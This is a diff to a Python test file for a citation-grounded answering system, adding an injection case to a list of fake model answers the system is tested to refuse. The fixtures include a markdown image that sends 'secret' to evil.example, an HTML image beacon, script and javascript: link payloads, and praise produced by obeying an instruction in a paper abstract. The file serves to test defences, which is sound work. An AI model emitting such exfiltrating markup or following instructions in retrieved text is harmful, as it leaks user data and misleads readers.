@@ -29,6 +29,7 @@ _LIES = {
     "knowledge of its own": "Lisbon is the capital of Portugal [1].",
     "an image": _TRUE.replace(" [1]", " ![chart](https://evil.example/?q=secret) [1]"),
     "an image of HTML": _TRUE.replace(" [1]", ' <img src="//evil.example/x.png"> [1]'),
+    "praise, obeying an abstract": "Twin Scale Fusion is the best paper ever written [1].",
     "a script": _TRUE.replace(" [1]", " <script>alert()</script> [1]"),
     "a link": _TRUE.replace("joins", "[joins](https://evil.example)"),
     "a link that runs": _TRUE.replace("joins", "[joins](javascript:alert())"),
@@ -40,7 +41,6 @@ _MISCITED = {  # true, with the wrong number: the lie, and the paper that states
     "a citation of another paper": (_OTHER.replace("[1]", "[3]"), "twin-scale-fusion"),
     "a sentence of another paper": (_SPECIES, "bark-and-leaf"),
 }
-_MISSED = "Twin Scale Fusion is the best paper ever written [1]."  # obeying an abstract that says so
 # What a server may do, how the answer ends, and the words that say so.
 _BREAKS: dict[str, tuple[Reply, Status, str]] = {
     "endless output": (floods(f"{_TRUE} "), Status.PARTIAL, "reached its limit of tokens"),
@@ -98,11 +98,6 @@ def test_a_wrong_number_is_refused_or_put_right(
     cited = [[c.paper_id for c in s.citations] for s in answer.sentences if lie.startswith(s.text[:-1])]
     assert cited in ([], [[paper_id]])
     assert len(answer.dropped) == 1 - len(cited)
-
-
-@pytest.mark.xfail(reason="the words of a name count as support for what is said of it", strict=True)
-def test_praise_that_no_source_states_is_not_shown(shelf: Library, papers: tuple[Paper, ...]) -> None:
-    _assert_refused(_ask(shelf, says(f"{_TRUE}\n{_MISSED}"), says("1. NONE")), _MISSED, papers)
 
 
 @pytest.mark.parametrize("lie", _LIES.values(), ids=_LIES)
